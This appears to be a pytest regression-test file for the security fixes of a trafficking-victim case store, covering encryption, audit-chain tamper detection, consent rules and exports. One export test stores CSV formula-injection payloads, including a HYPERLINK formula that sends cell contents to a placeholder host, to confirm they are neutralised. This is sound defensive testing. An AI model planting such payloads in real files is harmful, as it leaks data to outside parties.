"""Regression tests from the security review of the case store: each test is one problem found and fixed."""

from __future__ import annotations

import base64
import csv
import os
import stat

import openpyxl
import pytest
from argon2 import PasswordHasher
from sqlalchemy import delete, select, update

from darkfigure.casestore import (
    FAST_TEST_HASHER,
    CaseInput,
    EventInput,
    ImportRejected,
    KeyRing,
    PerpetratorInput,
    open_store,
    transfer,
)
from darkfigure.casestore.models import audit_head, audit_log, cases, events, name_tokens, perpetrators
from darkfigure.errors import AccessDenied, InputError

BOTH = {"case_work": True, "statistics": True, "linkage": True}


# -- keys -------------------------------------------------------------------------------------------------
def test_key_file_open_to_others_is_refused(tmp_path):
    key_file = tmp_path / "case.key"
    KeyRing.generate().write(key_file)
    os.chmod(key_file, 0o644)
    with pytest.raises(InputError, match="chmod 600"):
        KeyRing.read(key_file)
    with pytest.raises(InputError, match="chmod 600"):
        open_store(tmp_path / "cases.db", key_file)
    os.chmod(key_file, 0o600)
    assert KeyRing.read(key_file).active == "k1"


def test_key_ring_repr_shows_no_key_material():
    ring = KeyRing.generate()
    text = repr(ring) + str(ring)
    for secret in (ring.keys["k1"], ring.mac_key):
        assert base64.b64encode(secret).decode() not in text and repr(secret) not in text
    assert "k1" in text


def test_key_id_named_like_a_derived_key_still_works():
    ring = KeyRing({"audit": b"a" * 32}, "audit", b"m" * 32)
    assert ring.decrypt(ring.encrypt("Mina", "cases/x/prs_firstname"), "cases/x/prs_firstname") == "Mina"
    assert len(ring.audit_key) == 32 and len(ring.index_key) == 32


def test_truncated_ciphertext_is_a_clean_error(store, people):
    code = store.create_case(people["kim"], CaseInput({"prs_FirstName": "Aster"}))
    with store.engine.begin() as conn:
        conn.execute(update(cases).where(cases.c.code == code).values(prs_firstname=b"\x01"))
    with pytest.raises(InputError, match="not a darkfigure ciphertext"):
        store.get_case(people["kim"], code)


def test_new_sqlite_database_file_is_private(tmp_path):
    store = open_store(tmp_path / "fresh.db", KeyRing.generate(), password_hasher=FAST_TEST_HASHER)
    store.create_organisation("Shelter")
    assert stat.S_IMODE(os.stat(tmp_path / "fresh.db").st_mode) == 0o600
    store.close()


# -- ciphertexts bound to their case -----------------------------------------------------------------------
def test_child_rows_moved_to_another_case_do_not_decrypt(store, people):
    mine = store.create_case(
        people["kim"],
        CaseInput(
            {"prs_FirstName": "Aster"},
            BOTH,
            [EventInput("Exploitation", city="Ansan-Wongok")],
            [PerpetratorInput("Grimwald", "Sneddick", ["SoldIndividual"])],
        ),
    )
    theirs = store.create_case(people["lee"], CaseInput({"prs_FirstName": "Bram"}, BOTH))
    with store.engine.begin() as conn:
        target = conn.execute(select(cases.c.id).where(cases.c.code == theirs)).scalar_one()
        source = conn.execute(select(cases.c.id).where(cases.c.code == mine)).scalar_one()
        conn.execute(update(perpetrators).where(perpetrators.c.case_id == source).values(case_id=target))
    with pytest.raises(InputError, match="integrity"):
        store.get_case(people["lee"], theirs)  # the broker's name does not surface in another organisation
    with store.engine.begin() as conn:
        conn.execute(delete(perpetrators))
        conn.execute(update(events).where(events.c.case_id == source).values(case_id=target))
    with pytest.raises(InputError, match="integrity"):
        store.get_case(people["lee"], theirs)


# -- audit chain -------------------------------------------------------------------------------------------
def _log_some(store, people):
    code = store.create_case(people["kim"], CaseInput({"prs_FirstName": "Aster"}))
    for _ in range(3):
        store.get_case(people["kim"], code)
    return store.verify_audit().entries


def test_audit_head_rewound_after_cutting_entries_is_found(store, people):
    n = _log_some(store, people)
    with store.engine.begin() as conn:
        previous = conn.execute(select(audit_log.c.hash).where(audit_log.c.id == n - 1)).scalar_one()
        conn.execute(delete(audit_log).where(audit_log.c.id == n))
        conn.execute(update(audit_head).values(last_id=n - 1, last_hash=previous))
    verdict = store.verify_audit()
    assert not verdict.ok and verdict.first_broken == n


def test_audit_log_removed_entirely_is_found(store, people):
    _log_some(store, people)
    with store.engine.begin() as conn:
        conn.execute(delete(audit_log))
        conn.execute(delete(audit_head))
    verdict = store.verify_audit()
    assert not verdict.ok and "empty" in verdict.reason


def test_audit_chain_continues_after_many_appends(store, people):
    n = _log_some(store, people)
    store.list_cases(people["kim"], search="aster")
    verdict = store.verify_audit()
    assert verdict.ok and verdict.entries == n + 1


# -- consent and roles -------------------------------------------------------------------------------------
def test_analyst_counts_cover_only_statistics_consented_cases(store, people):
    kim = people["kim"]
    for consent in (True, True, False):
        store.create_case(
            kim,
            CaseInput(
                {"cas_Status": "Active", "vic_TypeOfExploitation": "ForcedLabour"},
                {"statistics": consent, "linkage": True},
                [EventInput("Transit", country="CN")],
            ),
        )
    analyst = store.counts(people["ana"])
    assert (analyst.total, analyst.by_status, analyst.events, analyst.linkage_consented) == (2, {"Active": 2}, 2, 2)
    caseworker = store.counts(kim)
    assert (caseworker.total, caseworker.events, caseworker.by_exploitation) == (3, 3, {"ForcedLabour": 2})


def test_caseworker_name_search_skips_cases_whose_identity_is_hidden_from_them(store, people):
    kim, admin = people["kim"], people["admin"]
    hana = {"prs_FirstName": "Hana", "prs_SecondName": "Bloomfield", "cas_Status": "Active"}
    code = store.create_case(kim, CaseInput(hana, BOTH))
    assert store.list_cases(kim, search="hana bloomfield").total == 1
    store.record_consent(kim, code, "case_work", False)
    assert store.list_cases(kim, search="hana bloomfield").total == 0
    assert store.list_cases(admin, search="hana bloomfield").total == 1
    assert store.list_cases(kim, search=code).total == 1  # the pseudonymous code still finds it
    # the other shapes of a name search (with a filter; a word that could also start a case code) too
    assert store.list_cases(kim, search="hana bloomfield", filters={"status": "Active"}).total == 0
    assert store.list_cases(admin, search="hana bloomfield", filters={"status": "Active"}).total == 1
    assert store.list_cases(kim, search="hana").total == 0  # "HANA" is also a code prefix: the union
    assert store.list_cases(admin, search="hana").total == 1


def test_administrator_may_erase_identity_after_case_work_is_withdrawn(store, people):
    kim, admin = people["kim"], people["admin"]
    code = store.create_case(kim, CaseInput({"prs_FirstName": "Hana", "prs_Birthdate": "1999-05-05"}, BOTH))
    store.record_consent(kim, code, "case_work", False)
    with pytest.raises(AccessDenied):
        store.update_case(kim, code, CaseInput({"prs_FirstName": None}))
    with pytest.raises(AccessDenied):
        store.update_case(admin, code, CaseInput({"prs_FirstName": "Hanna"}))
    store.update_case(admin, code, CaseInput({"prs_FirstName": None, "prs_Birthdate": None}))
    fields = store.get_case(admin, code).fields
    assert (fields["prs_FirstName"], fields["prs_Birthdate"]) == (None, None)
    assert store.list_cases(admin, search="hana").total == 0


def test_same_name_in_two_organisations_is_not_linkable_in_the_database(store, people):
    a = store.create_case(people["kim"], CaseInput({"prs_FirstName": "Mina"}))
    b = store.create_case(people["lee"], CaseInput({"prs_FirstName": "Mina"}))
    with store.engine.connect() as conn:

        def tokens(code):
            case = select(cases.c.id).where(cases.c.code == code).scalar_subquery()
            return set(conn.execute(select(name_tokens.c.token).where(name_tokens.c.case_id == case)).scalars())

        assert tokens(a) and tokens(b) and not tokens(a) & tokens(b)
    assert [c.code for c in store.list_cases(people["lee"], search="mina").items] == [b]


# -- exports -----------------------------------------------------------------------------------------------
def test_ctdc_cells_never_start_a_formula_and_linkage_names_stay_as_given(store, people, tmp_path):
    names = {"prs_FirstName": '=HYPERLINK("http://x.example/?"&A1,"open")', "prs_SecondName": "@SUM(1+1)"}
    store.create_case(people["kim"], CaseInput({**names, "prs_MiddleName": "+cmd"}, BOTH))
    store.create_case(people["kim"], CaseInput({"prs_FirstName": "-2+3", "prs_SecondName": "Park"}, BOTH))
    store.export_list(people["admin"], tmp_path / "list.csv")
    store.export_ctdc(people["admin"], tmp_path / "ctdc.csv")
    with open(tmp_path / "ctdc.csv", encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-99")]
    # the linkage list feeds darkfigure encode/link, not a spreadsheet: an apostrophe would change the
    # name that gets encoded (walkthrough item 11), so its names are written exactly as recorded
    with open(tmp_path / "list.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["family_name"] == "@SUM(1+1)" and rows[0]["given_name"] == names["prs_FirstName"] + " +cmd"
    assert rows[1]["given_name"] == "-2+3" and rows[1]["family_name"] == "Park"


# -- passwords and log-in ----------------------------------------------------------------------------------
class _CountingHasher(PasswordHasher):
    def __init__(self) -> None:
        super().__init__(time_cost=1, memory_cost=64, parallelism=1)
        self.calls = 0

    def hash(self, password, *, salt=None):
        self.calls += 1
        return super().hash(password, salt=salt)

    def verify(self, hash, password):
        self.calls += 1
        return super().verify(hash, password)


@pytest.mark.parametrize("username", ["kim", "nobody"])
def test_first_log_in_costs_the_same_for_known_and_unknown_names(tmp_path, username):
    hasher = _CountingHasher()
    store = open_store(tmp_path / "c.db", KeyRing.generate(), password_hasher=hasher)
    store.create_user(store.create_organisation("S"), "kim", "kim password 12", "caseworker")
    hasher.calls = 0
    assert store.authenticate(username, "wrong password 1") is None
    first = hasher.calls
    store.authenticate(username, "wrong password 1")
    # one dummy hash on the very first attempt, whoever it names, then one verification per attempt
    assert (first, hasher.calls - first) == (2, 1)
    store.close()


def test_password_policy(store, people):
    for weak in ("          x", "aaaaaaaaaaaa", "ababababab", "kimkimkim12"):
        with pytest.raises(InputError) as err:
            store.set_password(people["kim"], "kim", weak)
        assert err.value.column == "password"
    store.set_password(people["kim"], "kim", "kim's new passphrase")
    assert store.authenticate("kim", "kim's new passphrase") == people["kim"]


# -- error messages and imports ----------------------------------------------------------------------------
def test_error_messages_do_not_repeat_what_was_typed(store, people, tmp_path):
    for field, value in (("prs_MailingLatitude", "Gangnam-daero 37"), ("prs_Gender", "Quillfeather")):
        with pytest.raises(InputError) as err:
            store.create_case(people["kim"], CaseInput({field: value}))
        assert value not in str(err.value) and err.value.column == field
    headerless = tmp_path / "no_header.csv"  # the first person's data where the header should be
    headerless.write_text("Mina,Quillfeather,2001-04-17\nJoon,Park,1980-01-05\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as err:
        store.import_file(people["kim"], headerless)
    for secret in ("Mina", "Quillfeather", "2001-04-17", "Joon", "Park"):
        assert secret not in str(err.value)


def test_xlsx_with_too_many_rows_is_refused_without_reading_it_all(store, people, tmp_path, monkeypatch):
    monkeypatch.setattr(transfer, "MAX_ROWS", 3)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["prs_Gender"])
    for _ in range(10):
        sheet.append(["Feminine"])
    book.save(tmp_path / "long.xlsx")
    with pytest.raises(ImportRejected, match="more than 3 rows"):
        store.import_file(people["kim"], tmp_path / "long.xlsx")
    monkeypatch.setattr(transfer, "MAX_UNPACKED", 1000)
    with pytest.raises(InputError, match="unpacks to over"):
        store.import_file(people["kim"], tmp_path / "long.xlsx")
    assert store.counts(people["kim"]).total == 0


def test_bad_page_and_year_are_input_errors(store, people):
    with pytest.raises(InputError):
        store.list_cases(people["kim"], page="two")
    with pytest.raises(InputError):
        store.list_cases(people["kim"], filters={"year": "last year"})


def test_identifying_list_export_is_in_each_case_audit_trail(store, people, tmp_path):
    code = store.create_case(people["kim"], CaseInput({"prs_FirstName": "Mina"}, BOTH))
    store.export_list(people["admin"], tmp_path / "list.csv")
    trail = store.audit_log(people["admin"], case_code=code)
    assert [e.action for e in trail] == ["export_list", "create"]
    assert "prs_FirstName" in trail[0].fields and trail[0].actor == "admin"
    assert store.verify_audit().ok
